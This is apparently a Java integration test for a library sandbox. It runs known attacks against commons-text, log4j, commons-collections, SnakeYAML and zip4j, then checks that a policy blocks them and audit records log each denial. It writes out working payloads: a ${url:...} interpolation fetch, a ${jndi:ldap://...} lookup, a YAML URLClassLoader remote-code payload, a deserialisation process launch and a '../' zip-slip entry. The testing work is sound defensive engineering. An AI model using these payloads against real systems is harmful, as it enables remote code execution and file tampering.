package org.doorward.itest.bundles;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.InputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.doorward.itest.bundles.attack.DeserialisationAttack;
import org.doorward.itest.bundles.attack.FetchedEngine;
import org.doorward.itest.bundles.attack.InterpolationAttack;
import org.doorward.itest.bundles.attack.LoggingAttack;
import org.doorward.itest.bundles.attack.UnpackingAttack;
import org.doorward.itest.bundles.attack.YamlAttack;
import org.doorward.itest.distribution.Doorward;
import org.doorward.itest.distribution.Event;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * docs/known-attacks.md, attack by attack: without a policy it has its effect, with the policy of the document it has none, and the real
 * ausearch finds the records of the document under the name of the library. Policy and records are the files of {@code attacks/}.
 */
@Tag("machine")
class KnownAttacksIT {
    /** What the document calls the folder of the test. */
    private static final String DOCUMENTED = "/srv/w";

    private static final Path REACH = Path.of("samples/reach.jar");
    private static final Path LOCKDOWN = Path.of("modules/lockdown.jar");

    @TempDir
    private Path folder;

    private House house;

    @BeforeEach
    void start() {
        house = House.at(folder.resolve("house"));
    }

    @AfterEach
    void stop() {
        house.close();
    }

    private String file(String name) throws IOException {
        try (InputStream file = KnownAttacksIT.class.getResourceAsStream("/attacks/" + name)) {
            return new String(file.readAllBytes(), UTF_8).replace(DOCUMENTED, folder.toString());
        }
    }

    /** Puts the policy against an attack in force. */
    private void policy(String attack, Path module) throws IOException {
        String configuration = module.getFileName().toString().replace(".jar", ".cfg");
        house.configure(configuration, file(attack + "/" + configuration));
        house.deployModule(module);
    }

    /** The trail has exactly one denial of a module for this bundle, and it has the records of the document. */
    private void isRecorded(String attack, String bundle) throws IOException {
        List<Event> denials = house.ausearch("-c", bundle).stream()
                .filter(event -> event.has("type=AVC ", "permissive=0"))
                .toList();

        assertThat(denials).hasSize(1);
        assertThat(house.ausearch("-su", bundle + ":", "-m", "AVC")).isEqualTo(denials);
        for (String line : file(attack + "/records").lines().toList()) {
            String form =
                    Stream.of(line.split("\\.\\.\\.", -1)).map(Pattern::quote).collect(Collectors.joining(".*"));
            assertThat(denials.get(0).records()).as(line).anyMatch(record -> record.matches(form));
        }
    }

    /** What the attack did before there was a policy is in the trail as well. */
    private void succeeded(String bundle, String kind) {
        assertThat(house.ausearch("-c", bundle, "-sv", "yes"))
                .anyMatch(event -> event.has("type=SYSCALL ", " kind=" + kind + " "));
    }

    @Test
    void aTextThatIsFilledInFetchesNothing() throws IOException {
        String bundle = "org.apache.commons.commons-text";
        house.deploy(InterpolationAttack.class, List.of("org.apache.commons.text"), "commons-lang3", "commons-text");
        try (Listener attacker = new Listener(Map.of("/word", "fetched".getBytes(UTF_8)))) {
            String text = "Dear ${url:UTF-8:http://127.0.0.1:" + attacker.port() + "/word}";
            assertThat(house.work(text)).isEqualTo("Dear fetched");
            assertThat(attacker.arrived()).isEqualTo(1);
            succeeded(bundle, "network.connect");

            policy("commons-text", REACH);

            assertThat(house.tried(text).exitCode()).isEqualTo(1);
            assertThat(attacker.arrived()).isEqualTo(1);
            isRecorded("commons-text", bundle);
        }
    }

    @Test
    void aTextThatIsLoggedConnectsNowhere() throws IOException {
        String bundle = "org.apache.logging.log4j.core";
        house.deploy(LoggingAttack.class, List.of("org.apache.logging.log4j"), "log4j-api", "log4j-core");
        try (Listener attacker = new Listener(Map.of())) {
            String text = "${jndi:ldap://127.0.0.1:" + attacker.port() + "/word}";
            assertThat(house.work(text)).endsWith("logged");
            assertThat(attacker.arrived()).isEqualTo(1);
            succeeded(bundle, "network.connect");

            policy("log4j-core", REACH);

            assertThat(house.work(text)).as("the library swallows the denial").endsWith("logged");
            assertThat(attacker.arrived()).isEqualTo(1);
            isRecorded("log4j-core", bundle);
        }
    }

    @Test
    void anObjectThatIsReadStartsNoProcess() throws IOException {
        String bundle = "org.apache.commons.collections";
        Path made = folder.resolve("made");
        house.deploy(
                DeserialisationAttack.class,
                List.of(bundle, bundle + ".functors", bundle + ".keyvalue", bundle + ".map"),
                "commons-collections");
        house.tried(made);
        Doorward.eventually().until(() -> Files.exists(made));
        succeeded(bundle, "process.exec");
        Files.delete(made);

        policy("commons-collections", LOCKDOWN);

        assertThat(house.tried(made).err()).contains("denied process.exec for " + bundle);
        assertThat(made).doesNotExist();
        isRecorded("commons-collections", bundle);
    }

    @Test
    void aDocumentThatIsReadBringsNoCode() throws IOException {
        String bundle = "org.yaml.snakeyaml";
        Path made = folder.resolve("made");
        String engine = FetchedEngine.class.getName();
        Map<String, byte[]> served = Map.of(
                "/META-INF/services/javax.script.ScriptEngineFactory",
                engine.getBytes(UTF_8),
                "/" + engine.replace('.', '/') + ".class",
                Listener.code(FetchedEngine.class),
                "/file",
                made.toString().getBytes(UTF_8));
        house.deploy(YamlAttack.class, List.of(bundle, "javax.script"), "snakeyaml");
        try (Listener attacker = new Listener(served)) {
            String text = "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL"
                    + " [\"http://127.0.0.1:" + attacker.port() + "/\"]]]]";
            assertThat(house.work(text)).isEqualTo("ScriptEngineManager");
            assertThat(made).exists();
            succeeded(bundle, "runtime.newloader");
            Files.delete(made);
            int arrived = attacker.arrived();

            policy("snakeyaml", LOCKDOWN);

            assertThat(house.tried(text).exitCode()).isEqualTo(1);
            assertThat(made).doesNotExist();
            assertThat(attacker.arrived()).isEqualTo(arrived).isPositive();
            isRecorded("snakeyaml", bundle);
        }
    }

    @Test
    void anArchiveThatIsUnpackedStaysInItsFolder() throws IOException {
        String bundle = "net.lingala.zip4j";
        Path inbox = Files.createDirectory(folder.resolve("inbox"));
        Path outside = folder.resolve("outside.txt");
        Path archive = folder.resolve("archive.zip");
        try (ZipOutputStream zip = new ZipOutputStream(Files.newOutputStream(archive))) {
            for (String name : List.of("inside.txt", "../outside.txt")) {
                zip.putNextEntry(new ZipEntry(name));
                zip.write(name.getBytes(UTF_8));
            }
        }
        house.deploy(UnpackingAttack.class, List.of(bundle + ".core"), "zip4j");
        house.work(archive, inbox);
        assertThat(outside).exists();
        succeeded(bundle, "file.open");
        Files.delete(outside);
        Files.delete(inbox.resolve("inside.txt"));

        policy("zip4j", REACH);

        assertThat(house.tried(archive, inbox).exitCode()).isEqualTo(1);
        assertThat(outside).doesNotExist();
        assertThat(inbox.resolve("inside.txt")).as("what stays in the folder").exists();
        isRecorded("zip4j", bundle);
    }
}
